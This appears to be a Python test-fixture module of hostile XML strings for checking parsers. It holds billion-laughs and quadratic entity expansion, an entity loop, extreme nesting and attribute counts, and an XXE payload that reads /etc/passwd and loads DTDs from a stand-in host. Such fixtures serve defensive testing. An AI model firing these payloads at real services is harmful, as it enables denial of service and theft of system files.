"""XML that multiplies, reaches out or never ends, as text; for whatever holds XML."""

from __future__ import annotations


def _laughs(depth: int, times: int, use: str) -> str:
    entities = ['<!ENTITY e0 "答复书答复书">']
    entities += [f'<!ENTITY e{n} "{f"&e{n - 1};" * times}">' for n in range(1, depth)]
    return f'<?xml version="1.0"?><!DOCTYPE x [{"".join(entities)}]><x a="{use}">&e{depth - 1};</x>'


LAUGHS = _laughs(12, 10, "")
LAUGHS_IN_ATTRIBUTE = _laughs(12, 10, "&e11;")
QUADRATIC = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
    + "答" * 17_000
    + '">]><x>'
    + "&a;" * 3000
    + "</x>"
)
EXTERNAL = (
    '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">'
    '<!ENTITY h SYSTEM "http://192.0.2.1/h"><!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>'
    "<x>&f;&h;</x>"
)
DEEP = "<a>" * 60_000 + "</a>" * 60_000
ATTRIBUTES = "<a " + " ".join(f'a{n}="1"' for n in range(20_000)) + "/>"
ENTITY_LOOP = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]><x>&a;</x>'
